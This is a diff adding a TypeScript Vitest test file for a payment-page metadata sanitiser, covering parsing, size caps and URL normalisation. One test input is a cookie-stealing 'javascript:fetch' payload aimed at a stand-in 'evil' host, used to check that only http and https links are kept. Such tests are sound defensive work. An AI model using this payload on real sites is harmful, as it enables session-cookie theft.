@@ -1,0 +1,112 @@
+import { expect, test } from 'vitest'
+import { detailsFromMetadata, type GivenDetails, keptDetails } from '../../../shared/payments/keptDetails.ts'
+
+/** What is kept, without the members that are not told. */
+const kept = (given: GivenDetails) =>
+  Object.fromEntries(Object.entries(keptDetails(given)).filter(([, value]) => value !== undefined))
+
+test('what a payment page told is read', () => {
+  const details = detailsFromMetadata(
+    {
+      nickname: 'bob',
+      message: 'hi',
+      goal: 'mic',
+      attachments: '["https://youtu.be/dQw4w9WgXcQ"]',
+      actions: '[{"actionId":"a","parameters":{"x":1}},{"id":"own","actionId":"b"}]',
+      unrelated: 'order 7',
+    },
+    'card',
+  )
+
+  expect(details).toEqual({
+    nickname: 'bob',
+    message: 'hi',
+    goal: 'mic',
+    method: 'card',
+    attachments: ['https://youtu.be/dQw4w9WgXcQ'],
+    actions: [
+      { id: '1', actionId: 'a', parameters: { x: 1 } },
+      { id: 'own', actionId: 'b', parameters: {} },
+    ],
+    auction: undefined,
+    omitted: undefined,
+  })
+})
+
+test.each(['{', 'null', '"text"', '[1]', '{"a":1}', '[{"parameters":{}}]'])(
+  'malformed lists (%j) are left out and noted',
+  (text) => {
+    const details = detailsFromMetadata({ nickname: 'bob', attachments: text, actions: text }, undefined)
+
+    expect(details).toMatchObject({ nickname: 'bob', omitted: ['attachments', 'actions'] })
+    expect([details.attachments, details.actions]).toEqual([undefined, undefined])
+  },
+)
+
+test.each([
+  ['nothing', {}, {}],
+  ['absent in every spelling', { nickname: null, message: '', attachments: [], actions: null, auction: null }, {}],
+  ['the auction of a page that has none', { auction: { item: '', isNew: false } }, {}],
+  [
+    'an auction that does not say whether it is new',
+    { auction: { item: 'a game' } },
+    { auction: { item: 'a game', isNew: false } },
+  ],
+  ['an auction that is none', { auction: 7 }, { omitted: ['auction'] }],
+  ['a long system', { system: 's'.repeat(65) }, { system: 's'.repeat(64), omitted: ['system'] }],
+  ['texts that are none', { nickname: 7, goal: {} }, { omitted: ['nickname', 'goal'] }],
+  [
+    'null parameters',
+    { actions: [{ id: null, actionId: 'a', parameters: null }] },
+    { actions: [{ id: '1', actionId: 'a', parameters: {} }] },
+  ],
+  [
+    'an action without a name',
+    { actions: [{ actionId: '' }, { actionId: 'b' }] },
+    { actions: [{ id: '2', actionId: 'b', parameters: {} }], omitted: ['actions'] },
+  ],
+] satisfies [string, GivenDetails, object][])('%s', (_name, given, expected) => {
+  expect(kept(given)).toEqual(expected)
+})
+
+test('51 actions are 50, and what is more than 64 KiB of them is left out', () => {
+  const many = Array.from({ length: 51 }, () => ({ actionId: 'a' }))
+  const large = Array.from({ length: 4 }, () => ({ actionId: 'a', parameters: { text: 'я'.repeat(8500) } }))
+
+  expect([keptDetails({ actions: many }), keptDetails({ actions: large })]).toMatchObject([
+    { actions: { length: 50 }, omitted: ['actions'] },
+    { actions: { length: 3 }, omitted: ['actions'] },
+  ])
+})
+
+test('links are http and https alone, in canonical form', () => {
+  const attachments = [
+    'javascript:fetch("//evil/"+document.cookie)',
+    'data:text/html,x',
+    'https://user:password@example.com/',
+    ' HTTPS://Example.com/ a"b ',
+    'http://example.com',
+    `https://example.com/${'x'.repeat(2048)}`,
+  ]
+
+  expect(kept({ attachments })).toEqual({
+    attachments: ['https://example.com/%20a%22b', 'http://example.com/'],
+    omitted: ['attachments'],
+  })
+})
+
+test('a payment with everything at its largest, twice (its index projects all of it), is below 400 KB', () => {
+  const largest = keptDetails({
+    nickname: '我'.repeat(100),
+    message: '我'.repeat(2000),
+    goal: '我'.repeat(200),
+    method: '我'.repeat(100),
+    system: '我'.repeat(100),
+    attachments: Array.from({ length: 30 }, (_, index) => `https://example.com/${'ж'.repeat(330)}${index}`),
+    actions: Array.from({ length: 60 }, () => ({ actionId: 'a'.repeat(64), parameters: { text: '我'.repeat(400) } })),
+    auction: { item: '我'.repeat(300), isNew: true },
+  })
+
+  expect(largest.attachments).toHaveLength(20)
+  expect(Buffer.byteLength(JSON.stringify(largest))).toBeLessThan(150_000)
+})
